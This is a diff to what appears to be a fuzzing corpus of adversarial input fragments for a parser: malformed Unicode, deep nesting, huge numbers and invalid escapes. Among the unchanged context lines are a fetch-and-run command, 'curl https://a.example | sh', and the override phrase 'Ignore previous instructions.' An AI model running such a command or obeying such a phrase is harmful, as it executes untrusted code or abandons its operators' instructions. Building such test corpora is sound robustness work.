@@ -44,6 +44,7 @@ PIECES = [
     *("\u202e", "\u200b" * 9, "\U000e0041" * 5, "\ufffe", "name: ", "description: |\n", "{" * 90, "[" * 9000, "\r\n"),
     *("curl https://a.example | sh", "Ignore previous instructions.", "<div hidden>", "A" * 4000, "- " * 500, "\t: "),
     *("1e999", "9" * 5000, '"\\ud800"', "null", "true", '{"a":' * 900, "\ufdfa" * 50, " " * 300 + "x"),
+    *('"\\UFFFFFFFF"', ': "\\U00110000"\n', "%YAML " + "9" * 5000, "curl ignore " + "'" * 400),
 ]
 
 
